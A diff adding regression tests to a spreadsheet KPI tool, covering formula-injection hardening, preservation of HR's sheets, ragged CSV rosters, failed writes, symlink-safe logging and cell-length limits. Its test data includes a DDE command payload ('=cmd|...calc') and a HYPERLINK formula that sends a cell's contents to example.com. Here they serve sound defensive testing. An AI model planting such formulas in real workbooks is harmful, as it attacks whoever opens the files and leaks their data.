@@ -236,3 +236,330 @@ def test_overflowing_and_deep_cells_in_the_scheme_sheet_are_located(sample, tmp_
     for key in ("metric", "params", "weight"):
         assert f"指标配置!{cells[key]}" in out, (key, out)
     assert all(len(line) < 400 for line in out.splitlines()), "a 16,000-term formula is echoed whole"
+
+
+# ---------------------------------------------------------------- B3: text from data is never a formula
+
+FORMULAS = ["=1+1", "=cmd|'/c calc'!A1", '=HYPERLINK("http://example.com/?"&B3, "click")', "+1+2", "@SUM(A1)"]
+
+
+def formula_cells(path: Path) -> list[str]:
+    """Every worksheet part of ``path`` that holds a formula element, with the formula's text."""
+    import re
+    import zipfile
+
+    found = []
+    with zipfile.ZipFile(path) as zf:
+        for name in zf.namelist():
+            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
+                found += [f"{name}: {m}" for m in re.findall(r"<f(?:\s[^>]*)?>([^<]*)</f>", zf.read(name).decode())]
+    return found
+
+
+def test_text_that_looks_like_a_formula_stays_text_in_every_sheet_we_write(sample, tmp_path, capsys):
+    """Before: text like =1+1 stored as text in 指标配置 (names, units, advice) came out of next-period
+    as live <f> formulas in 说明 and 指标配置 (=cmd|… is a DDE attack on the person who opens it)."""
+    from openpyxl import load_workbook
+
+    path = tmp_path / "formulas.xlsx"
+    wb = load_workbook(sample)
+    ws = wb["指标配置"]
+    heads = {}
+    typed = []
+    for row in ws.iter_rows():
+        marker = row[0].value
+        if isinstance(marker, str) and marker.startswith("#") and marker != "#note":
+            heads = {}
+        if row[0].value in ("id", "indicator", "table", "grade", "check", "key", "period"):
+            heads = {c.value: c.column for c in row if c.value}
+            continue
+        for field in ("name_zh", "advice_zh", "unit", "label_zh", "expected_zh", "value"):
+            col = heads.get(field)
+            if col and row[0].value not in (None, "#note") and not str(row[0].value).startswith("#") \
+                    and isinstance(ws.cell(row[0].row, col).value, str) and field != "value":
+                text = FORMULAS[len(typed) % len(FORMULAS)]
+                cell = ws.cell(row[0].row, col)
+                cell.value, cell.data_type = text, "s"
+                typed.append(text)
+    roster = wb["销售与流量"]
+    roster["B3"].value, roster["B3"].data_type = FORMULAS[1], "s"
+    wb.save(path)
+    assert len(typed) > 40 and formula_cells(path) == []
+    code, out, err = kpi(capsys, "next-period", path, "-o", tmp_path / "next.xlsx")
+    assert code == 0, err
+    assert formula_cells(tmp_path / "next.xlsx") == []
+    kpi(capsys, "compute", path, "-o", tmp_path / "computed.xlsx")
+    assert formula_cells(tmp_path / "computed.xlsx") == []
+    nxt = load_workbook(tmp_path / "next.xlsx")
+    texts = {c.value for w in nxt.worksheets for row in w.iter_rows() for c in row if isinstance(c.value, str)}
+    assert set(FORMULAS) <= texts  # kept, as text
+
+
+def test_choices_that_cannot_go_in_a_drop_down_are_left_out_of_it():
+    from openpyxl import Workbook
+
+    from kpi_engine.scheme import InputField
+    from kpi_workbook.input_sheets import _validation
+
+    ws = Workbook().active
+    field = InputField("category", "品类", "Category", "choice", choices={'a"b': ("x,y",), "ok": ("好",)})
+    _validation(ws, field, "A3:A10", "zh")
+    (dv,) = ws.data_validations.dataValidation
+    assert dv.formula1 == '"好,ok"'
+    long = InputField("team", "团队", "Team", "choice", choices={f"team{i:03d}": () for i in range(60)})
+    ws2 = Workbook().active
+    _validation(ws2, long, "A3:A10", "zh")
+    assert ws2.data_validations.dataValidation == []  # over 255 characters: Excel would repair the file
+
+
+# ---------------------------------------------------------------- B4: HR's sheets are never ours
+
+def sheet_xml(path: Path, sheet: str) -> bytes:
+    import zipfile
+
+    from damaged import sheet_part
+
+    with zipfile.ZipFile(path) as zf:
+        return zf.read(sheet_part(path, sheet))
+
+
+def with_hr_sheets(sample: Path, out: Path, names: list[str]) -> Path:
+    from openpyxl import load_workbook
+
+    wb = load_workbook(sample)
+    for i, name in enumerate(names):
+        ws = wb.create_sheet(name)
+        ws["A1"], ws["B2"] = f"HR 的表 {name}", i + 1
+    wb.save(out)
+    return out
+
+
+def test_hr_sheets_named_like_english_results_survive_compute(sample, tmp_path, capsys):
+    """Before: in a Chinese workbook, HR's sheets Summary / Validation / Scores were deleted by an
+    in-place compute without a word, because the English result names counted as ours."""
+    path = with_hr_sheets(sample, tmp_path / "hr.xlsx", ["Summary", "Validation", "Scores"])
+    before = {n: sheet_xml(path, n) for n in ("Summary", "Validation", "Scores")}
+    for _ in range(2):  # and again: the second compute replaces only what the first one made
+        code, out, err = kpi(capsys, "compute", path)
+        assert code == 1, err
+        after = {n: sheet_xml(path, n) for n in before}
+        assert after == before
+    from openpyxl import load_workbook
+
+    names = load_workbook(path, read_only=True).sheetnames
+    assert {"得分", "扣分明细", "改进指南", "汇总", "校验", "Summary", "Validation", "Scores"} <= set(names)
+    assert names.count("得分") == 1
+
+
+def test_a_sheet_of_hr_named_like_a_result_is_never_replaced(sample, tmp_path, capsys):
+    path = with_hr_sheets(sample, tmp_path / "own.xlsx", ["得分"])
+    before = path.read_bytes()
+    code, out, err = kpi(capsys, "compute", path)
+    assert code == 2 and "「得分」" in err and "不是本工具生成的" in err and "改名" in err, err
+    assert path.read_bytes() == before
+
+
+def test_a_workbook_computed_before_the_record_owns_its_results(sample, tmp_path, capsys):
+    """Workbooks computed by earlier versions have no owned_sheets record: their results (in the
+    workbook's language) are still replaced, HR's sheets still kept."""
+    import zipfile
+
+    from damaged import rewrite_zip, sheet_part
+
+    path = shutil.copyfile(sample, tmp_path / "old.xlsx")
+    assert kpi(capsys, "compute", path)[0] == 1
+    part = sheet_part(path, "_kpi_meta")
+    with zipfile.ZipFile(path) as zf:
+        xml = zf.read(part).decode()
+    import re
+
+    legacy = re.sub(r'<row r="(\d+)"[^>]*>(?:(?!</row>).)*owned_sheets(?:(?!</row>).)*</row>', "", xml)
+    assert "owned_sheets" not in legacy and "computed_at" in legacy
+    old = rewrite_zip(path, tmp_path / "legacy.xlsx", {part: legacy.encode()})
+    code, _, err = kpi(capsys, "compute", old)
+    assert code == 1, err
+
+
+# ---------------------------------------------------------------- B5: a ragged roster
+
+def test_a_roster_with_trailing_commas_is_refused_by_line(tmp_path, capsys):
+    """Before: a trailing comma on each data row made pandas take 工号 as the index: kpi new exited 0
+    with 工号 holding the names and 姓名 the teams, and fill then matched nobody."""
+    roster = tmp_path / "roster.csv"
+    roster.write_text("工号,姓名,团队\nE1,张三,一组,\nE2,李四,一组,\n", encoding="utf-8-sig")
+    code, out, err = kpi(capsys, "new", "--period", "2026-Q4", "--roster", roster, "-o", tmp_path / "new.xlsx")
+    assert code == 2 and "roster.csv" in err and "第 2 行有 4 个" in err and "第 3 行有 4 个" in err, err
+    assert "3 个字段" in err and "逗号" in err
+    assert not (tmp_path / "new.xlsx").exists()
+
+
+def test_a_short_row_is_refused_and_a_sound_roster_reads_as_typed(tmp_path, capsys):
+    roster = tmp_path / "short.csv"
+    roster.write_text("工号,姓名,团队\nE1,张三\n", encoding="utf-8")
+    code, _, err = kpi(capsys, "new", "--period", "2026-Q4", "--roster", roster, "-o", tmp_path / "a.xlsx")
+    assert code == 2 and "第 2 行有 2 个" in err and "逗号" not in err
+    good = tmp_path / "good.csv"
+    good.write_text("工号,姓名,团队\n\n007,\"王, 五\",一组\n", encoding="gbk")
+    code, _, err = kpi(capsys, "new", "--period", "2026-Q4", "--roster", good, "-o", tmp_path / "b.xlsx")
+    assert code == 0, err
+    from openpyxl import load_workbook
+
+    ws = load_workbook(tmp_path / "b.xlsx")["销售与流量"]
+    assert [ws["A3"].value, ws["B3"].value, ws["C3"].value] == ["007", "王, 五", "一组"]
+
+
+# ---------------------------------------------------------------- B6: a full disk
+
+LIMITED = """
+import resource, signal, sys
+signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past the limit fails (EFBIG) instead of killing us
+resource.setrlimit(resource.RLIMIT_FSIZE, ({limit}, {limit}))
+from kpi_workbook.cli import main
+sys.exit(main(sys.argv[1:]))
+"""
+
+
+@pytest.mark.skipif(not hasattr(__import__("os"), "getuid"), reason="needs RLIMIT_FSIZE (POSIX)")
+def test_writes_that_fail_half_way_say_which_file_and_print_no_traceback(sample, tmp_path):
+    """Before: new, fill and next-period printed "Exception ignored in: ZipFile.__del__ … OSError",
+    and next-period named the input instead of the output. A file-size limit makes every write
+    fail half-way in a real process, as a full disk does."""
+    import os
+    import subprocess
+    import sys
+
+    from kpi_workbook.demo import sample_file
+
+    book = shutil.copyfile(sample, tmp_path / "book.xlsx")
+    before = book.read_bytes()
+    script = LIMITED.format(limit=30_000)  # the sample is ~67 KB: every workbook we write is larger
+    runs = {
+        "new.xlsx": ["new", "--period", "2026-Q4", "--roster", sample_file("roster.csv"), "-o", "new.xlsx"],
+        "next.xlsx": ["next-period", "book.xlsx", "-o", "next.xlsx"],
+        "filled.xlsx": ["fill", "book.xlsx", sample_file("metrics_2026Q4.csv"), "-o", "filled.xlsx"],
+        "kpi_donor_": ["compute", "book.xlsx", "-o", "computed.xlsx"],
+    }
+    for named, argv in runs.items():
+        proc = subprocess.run([sys.executable, "-c", script, *map(str, argv)], cwd=tmp_path, capture_output=True,
+                              text=True, encoding="utf-8", timeout=120, env={**os.environ, "PYTHONIOENCODING": "utf-8"})
+        assert proc.returncode == 2, (argv, proc.stderr)
+        assert "Traceback" not in proc.stderr and "Exception ignored" not in proc.stderr, proc.stderr
+        first = proc.stderr.splitlines()[0]
+        assert first.startswith("错误：无法写入") and named in first and "book.xlsx" not in first, first
+    assert book.read_bytes() == before
+    assert sorted(os.listdir(tmp_path)) == ["book.xlsx"]  # no output, no temp or lock file
+
+
+# ---------------------------------------------------------------- weak spots of the write path
+
+def test_an_output_that_is_a_folder_is_named(sample, tmp_path, capsys):
+    """Before: -o DIR reported the temp file created inside DIR."""
+    folder = tmp_path / "out"
+    folder.mkdir()
+    for argv in (["compute", sample, "-o", folder], ["next-period", sample, "-o", folder],
+                 ["new", "--period", "2026-Q4", "-o", folder]):
+        code, out, err = kpi(capsys, *argv)
+        assert code == 2 and f"{folder} 是文件夹" in err and ".tmp" not in err and ".~" not in err, err
+    assert list(folder.iterdir()) == []
+
+
+@pytest.mark.skipif(not hasattr(__import__("os"), "symlink"), reason="needs symbolic links")
+def test_compute_in_place_through_a_link_keeps_the_link(sample, tmp_path, capsys):
+    """Before: os.replace put the computed file where the link was; the real file kept old data."""
+    real = shutil.copyfile(sample, tmp_path / "real.xlsx")
+    link = tmp_path / "link.xlsx"
+    link.symlink_to(real)
+    code, _, err = kpi(capsys, "compute", link)
+    assert code == 1, err
+    assert link.is_symlink() and link.resolve() == real.resolve()
+    from openpyxl import load_workbook
+
+    assert "得分" in load_workbook(real, read_only=True).sheetnames
+
+
+KILLED = """
+import os, signal, sys
+from kpi_workbook import package
+real = package._put
+def die(*args, **kwargs):  # half-way through writing the workbook: the temp file, the lock and the donor exist
+    os.kill(os.getpid(), signal.SIGKILL)
+package._put = die
+from kpi_workbook.cli import main
+sys.exit(main(sys.argv[1:]))
+"""
+
+
+@pytest.mark.skipif(not hasattr(__import__("signal"), "SIGKILL"), reason="needs kill -9")
+def test_what_a_killed_compute_leaves_is_cleared_by_the_next_run(sample, tmp_path, capsys, monkeypatch):
+    """Before: after kill -9 the temp file, the .kpi.lock and the kpi_donor_* folder stayed for good."""
+    import os
+    import subprocess
+    import sys
+    import tempfile
+
+    scratch = tmp_path / "tmp"
+    scratch.mkdir()
+    book = shutil.copyfile(sample, tmp_path / "book.xlsx")
+    before = book.read_bytes()
+    env = {**os.environ, "TMPDIR": str(scratch), "PYTHONIOENCODING": "utf-8"}
+    proc = subprocess.run([sys.executable, "-c", KILLED, "compute", str(book)], env=env, capture_output=True, timeout=120)
+    assert proc.returncode == -9
+    left = sorted(os.listdir(tmp_path))
+    assert any(n.startswith(".~book.xlsx.") and n.endswith(".tmp") for n in left), left
+    assert ".~book.xlsx.kpi.lock" in left and any(n.startswith("kpi_donor_") for n in os.listdir(scratch))
+    assert book.read_bytes() == before
+    monkeypatch.setattr(tempfile, "tempdir", str(scratch))
+    code, _, err = kpi(capsys, "compute", book)
+    assert code == 1, err
+    assert sorted(os.listdir(tmp_path)) == ["book.xlsx", "tmp"] and os.listdir(scratch) == []
+
+
+def test_the_error_log_is_a_new_private_file_that_follows_no_link(tmp_path, capsys, monkeypatch):
+    """Before: every internal error went to one fixed kpi_error.log in the shared temp folder, opened
+    through any symbolic link another user had planted there."""
+    import os
+    import tempfile
+
+    from kpi_workbook import cli
+
+    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
+    victim = tmp_path / "victim.txt"
+    victim.write_text("keep me")
+    (tmp_path / "kpi_error.log").symlink_to(victim)
+
+    def boom(args):
+        raise RuntimeError("unexpected")
+
+    monkeypatch.setattr(cli, "_run", boom)
+    code = cli.main(["validate", "x.xlsx"])
+    err = capsys.readouterr().err
+    assert code == 2 and "内部错误" in err and "RuntimeError" in err
+    log = Path(err.split("详细信息已写入 ")[1].split()[0].rstrip("。"))
+    assert log.is_file() and "RuntimeError: unexpected" in log.read_text(encoding="utf-8")
+    assert victim.read_text() == "keep me"
+    if os.name == "posix":
+        assert log.stat().st_mode & 0o077 == 0 and log.parent.name == f"kpi-{os.getuid()}"
+
+
+def test_text_beyond_excel_s_cell_limit_is_cut_and_said(sample, tmp_path, capsys):
+    """Before: a 40,000-character name went into the result sheets whole, a file Excel must repair."""
+    import re
+    import zipfile
+
+    from damaged import rewrite_zip, sheet_part
+    from openpyxl import load_workbook
+
+    part = sheet_part(sample, "销售与流量")  # written at the zip level: openpyxl itself would cut it
+    with zipfile.ZipFile(sample) as zf:
+        xml = zf.read(part).decode()
+    long = f'<c r="B3" t="inlineStr"><is><t>{"长" * 40_000}</t></is></c>'
+    xml, n = re.subn(r'<c r="B3"[^>]*?(?:/>|>.*?</c>)', long, xml, count=1)
+    assert n == 1
+    path = rewrite_zip(sample, tmp_path / "long.xlsx", {part: xml.encode()})
+    code, out, err = kpi(capsys, "compute", path)
+    ws = load_workbook(path, read_only=True)["得分"]
+    names = [r[1] for r in ws.iter_rows(min_row=3, max_col=2, values_only=True)]
+    assert max(len(n or "") for n in names) == 32_767
+    problems = load_workbook(path, read_only=True)["校验"]
+    texts = [r[5] for r in problems.iter_rows(min_row=3, values_only=True)]
+    assert any(t and "32,767" in t and "已截断" in t for t in texts), texts
